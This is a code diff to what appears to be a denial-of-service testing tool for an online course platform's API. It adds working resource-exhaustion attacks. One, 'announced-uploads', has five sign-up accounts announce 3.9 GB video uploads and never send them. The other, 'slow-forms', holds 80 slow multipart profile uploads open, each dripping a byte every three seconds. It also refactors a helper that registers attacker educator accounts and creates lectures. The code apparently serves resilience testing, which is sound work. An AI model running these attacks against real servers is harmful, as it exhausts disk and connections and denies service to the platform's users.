@@ -1,7 +1,7 @@
 import { type ClientRequest, request } from 'node:http'
 import sharp from 'sharp'
 import { type Attack, countResponse, keepBusy, pause, type Target } from '../lib/attack.ts'
-import { call, form, formHead, formType, json, signUp } from '../lib/call.ts'
+import { beginUpload, form, formHead, formType, makeLecture, signUp } from '../lib/call.ts'
 
 const length = 1024 * 1024
 const almostAll = Buffer.alloc(length - 1, 0x20)
@@ -54,18 +54,10 @@ const video = Buffer.concat([
 const piece = Buffer.alloc(256 * 1024, 7)
 
 /** Makes an educator of the attacker's own, with a course and a lecture. Returns the address of the lecture's upload, and the cookie. */
-async function ownLecture(target: Target, name: string): Promise<{ path: string; cookie: string }> {
+async function ownLecture(target: Target, name: string): Promise<{ path: string; cookie: string; lectureId: string }> {
   const cookie = await signUp(target.origin, target.from, `${name}@attacker.example`, 'educator')
-  const post = async (path: string, value: object) => {
-    const answer = await call(target.origin, target.from, json(path, value, cookie))
-    if (answer.status !== 201) throw new Error(`${path} was answered ${answer.status}: ${answer.body}`)
-    return JSON.parse(answer.body.toString())
-  }
-  const course: { _id: string } = await post('/api/course/create', { title: 'Mine', category: 'Web Development' })
-  const { lecture }: { lecture: { _id: string } } = await post(`/api/course/createlecture/${course._id}`, {
-    lectureTitle: 'One',
-  })
-  return { path: `/api/course/editlecture/${lecture._id}`, cookie }
+  const { lectureId } = await makeLecture(target.origin, target.from, cookie)
+  return { path: `/api/course/editlecture/${lectureId}`, cookie, lectureId }
 }
 
 /** Begins an upload that never ends: `sendBytes` as fast as they are taken, then a byte now and then. Resolves when the connection ends. */
@@ -94,7 +86,9 @@ function begin(target: Target, to: { path: string; cookie: string }, signal: Abo
       }
     }
     sent.on('drain', fill)
-    sent.write(Buffer.concat([formHead({ field: how.field, filename: 'lecture.mp4', type: 'video/mp4' }), video]))
+    const head = formHead({ field: how.field, filename: 'lecture.mp4', type: 'video/mp4' })
+    // without the first bytes of the file nothing tells what it is
+    sent.write(how.sendBytes === 0 ? head : Buffer.concat([head, video]))
     fill()
     const drip = setInterval(() => sent.write('x'), how.dripMs)
     const stop = () => sent.destroy()
@@ -134,6 +128,45 @@ export const unknownField = uploads(
   8,
   { field: 'somethingElse', announced: 400_000_000, sendBytes: 50_000_000, dripMs: 3000 },
 )
+
+/** Enough to announce more than the disks of most servers have. */
+const hoarders = 5
+
+export const announcedUploads: Attack = {
+  name: 'announced-uploads',
+  what: 'five accounts announce 5 videos of 3.9 GB each, and send no byte of them',
+  async arm(target) {
+    const lectures = await Promise.all(
+      Array.from({ length: hoarders }, (_, at) => ownLecture(target, `announced-${at}`)),
+    )
+    return (signal) =>
+      keepBusy(hoarders, signal, async (lane) => {
+        const lecture = lectures[lane % hoarders]
+        if (!lecture) return
+        const begun = await target.send({ ...beginUpload(lecture.lectureId, 3.9e9, lecture.cookie), signal })
+        if (begun?.status === 201) target.count('GB announced', 3.9)
+        else await pause(500, signal)
+      })
+  },
+}
+
+/** As many as an account may have at once. */
+const formsOfAccount = 16
+
+export const slowForms: Attack = {
+  name: 'slow-forms',
+  what: '80 forms of five accounts with a picture of 100 kB, of which a byte comes every 3 s',
+  async arm(target) {
+    const cookies = await Promise.all(
+      Array.from({ length: hoarders }, (_, at) => signUp(target.origin, target.from, `slow-${at}@attacker.example`)),
+    )
+    const how = { field: 'photoUrl', announced: 100_000, sendBytes: 0, dripMs: 3000 }
+    return (signal) =>
+      keepBusy(hoarders * formsOfAccount, signal, (lane) =>
+        begin(target, { path: '/api/user/updateprofile', cookie: cookies[lane % hoarders] ?? '' }, signal, how),
+      )
+  },
+}
 
 const imageUploads = (name: string, what: string, type: string, make: () => Promise<Buffer>): Attack => ({
   name,
